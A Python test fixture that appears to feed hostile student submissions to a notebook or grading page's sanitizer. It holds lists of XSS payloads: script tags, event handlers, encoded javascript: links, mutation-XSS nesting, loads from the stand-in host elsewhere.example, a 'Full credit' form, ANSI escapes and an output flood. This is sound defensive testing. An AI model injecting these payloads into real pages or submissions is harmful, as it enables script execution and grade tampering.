"""A submission that tries to run script, to fetch something, or to break the page that shows it."""

from __future__ import annotations

ELSEWHERE = "http://elsewhere.example"
RUN = "window.pwned=1;alert(1)"

HTML = [
    f"<script>{RUN}</script>",
    f"<script src={ELSEWHERE}/a.js></script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src='{ELSEWHERE}/a.png'>",
    f"<svg onload=\"{RUN}\"><script>{RUN}</script><image href='{ELSEWHERE}/b.png'/></svg>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>',
    f"<iframe src='javascript:{RUN}'></iframe><iframe srcdoc=\"<script>{RUN}</script>\"></iframe>",
    f"<object data='{ELSEWHERE}/o'></object><embed src='{ELSEWHERE}/e'>",
    f"<link rel=stylesheet href='{ELSEWHERE}/a.css'><style>@import '{ELSEWHERE}/b.css'; body {{display: none}}</style>",
    f'<div style="position:fixed;inset:0;background:url({ELSEWHERE}/c.png)">over everything</div>',
    f'<body onload="{RUN}"><html onclick="{RUN}"><base href=\'{ELSEWHERE}/\'>',
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<form action='{ELSEWHERE}'><input autofocus onfocus=\"{RUN}\"><button>Full credit</button></form>",
    f'<details open ontoggle="{RUN}"><summary>details</summary></details>',
    f"<video autoplay src='{ELSEWHERE}/v'><source src=x onerror=\"{RUN}\"></video><audio src='{ELSEWHERE}/s' autoplay></audio>",
    f'<a href="java&#115;cript:{RUN}" id=clicked>click</a><a href=" javascript:{RUN}">click</a>',
    f"<a href=\"jav\tascript:{RUN}\">click</a><a href='data:text/html,<script>{RUN}</script>'>click</a>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\">",
    f'<textarea></textarea><img src=x onerror="{RUN}"><xmp><script>{RUN}</script></xmp><plaintext>',
    "</div></div></div></div></div></body></html><h1>outside</h1>",
    "<ul><li><div><li></li></div></li></ul></div></div><!-- <p>",
    "<table background='" + ELSEWHERE + "/t.png'><tr><td background='" + ELSEWHERE + "/u.png'>cell</table>",
    "<span id=check-softmax class='score tabbable navbar-fixed-top' name=submission_id>names of the page</span>",
    r"<p>$\href{javascript:window.pwned=1}{x}$ $&#92;style{position:fixed}{y}$ $\require{html}$</p>",
    f"<img srcset='{ELSEWHERE}/s.png 1x' src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    f"<a ping='{ELSEWHERE}/p' href='#'>ping</a><p onmouseover=\"{RUN}\">over</p><isindex type=image src=1 onerror={RUN}>",
]

MARKDOWN = [
    *HTML,
    f"[inline](javascript:{RUN}) [encoded](java&#115;cript:{RUN}) [named](javascript&colon;{RUN})",
    f"[tab](java\tscript:{RUN}) [angle](<javascript:{RUN}>) [upper](JaVaScRiPt:{RUN}) [vb](vbscript:x) [data](data:text/html,x)",
    f"[reference][bad] [bad] [bad][]\n\n[bad]: javascript:{RUN}\n[next]:\n  javascript:{RUN}\n",
    f"<javascript:{RUN}> <java&#115;cript:{RUN}>",
    f"![fetched]({ELSEWHERE}/m.png) ![by reference][picture] ![gone](attachment:gone.png)\n\n[picture]: {ELSEWHERE}/n.png\n",
    f'![x](x"onerror="{RUN}) [x](https://x.example "a" onmouseover="{RUN}")',
    f'```mermaid\ngraph TD; A[<img src=x onerror="{RUN}">]\nclick A "javascript:{RUN}"\n```',
    f'```html"><script>{RUN}</script>\n<script>{RUN}</script>\n```',
    f"```\n</code></pre><script>{RUN}</script>\n```\n\n`</code><script>{RUN}</script>`",
    f'$</span><script>{RUN}</script>$ $$<img src=x onerror="{RUN}">$$ \\begin{{a}}<script>{RUN}</script>\\end{{a}}',
    r"$\href{javascript:window.pwned=1}{x}$ &#36;&#92;href{javascript&#58;window.pwned=1}{x}&#36; $\style{position:fixed}{x}$",
    r"$\def\x{\x\x}\x$ $\rule{99999em}{99999em}$ $\require{html}\class{score}{x}$ $\hspace{-99em}$",
    "# check-softmax\n\nstatusmessage\n=============\n\n- # softmax-comment\n\n> # written-softmax\n",
    f"- [ ] <script>{RUN}</script>\n- [x] done\n\nterm <script>{RUN}</script>\n: definition\n",
    f"| a | b |\n|---|---|\n| <script>{RUN}</script> | [x](javascript:{RUN}) |",
]

# Code for cells of the student's own. It goes through the jail; what it shows comes to the page.
SHOWS = f"""
from IPython.display import display
RUN, ELSEWHERE = {RUN!r}, {ELSEWHERE!r}
html = {HTML!r}
for page in html:
    display({{"text/html": page, "text/plain": page}}, raw=True)
    display({{"text/markdown": page}}, raw=True)
    display({{"image/svg+xml": page, "text/latex": page, "application/pdf": "x"}}, raw=True)
display({{"application/javascript": RUN}}, raw=True)
display({{"text/vnd.mermaid": "graph TD; A[<img src=x onerror=" + RUN + ">]"}}, raw=True)
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "x</script><script>" + RUN + "</script>"}}}}, raw=True)
display({{"image/png": "x\\" onerror=\\"" + RUN}}, raw=True)
display({{"image/png": "AAAA"}}, raw=True, metadata={{"image/png": {{"width": "1 onerror=" + RUN, "alt": "\\" onerror=" + RUN}},
                                                   "filenames": {{"image/png": ELSEWHERE + "/f.png"}}}})
display({{"text/html": html[0]}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})
print("\\x1b[31;1m<script>" + RUN + "</script>\\x1b[0m \\x1b]8;;javascript:" + RUN + "\\x07link\\x1b]8;;\\x07 \\x1b[38;5;999mcolor")
print("".join(map(chr, range(32))), chr(0x202e), chr(0xd800))
"""

RAISES = f"""
class Attack(Exception):
    __name__ = "<script>{RUN}</script>"
    def __str__(self): return "<script>{RUN}</script> [x](javascript:{RUN}) ![x]({ELSEWHERE}/r.png)"
Attack.__name__ = Attack.__qualname__ = "<script>{RUN}</script>"
raise Attack()
"""

MUCH = "for _ in range(500):\n    print('x' * 100_000)  # fifty megabytes"
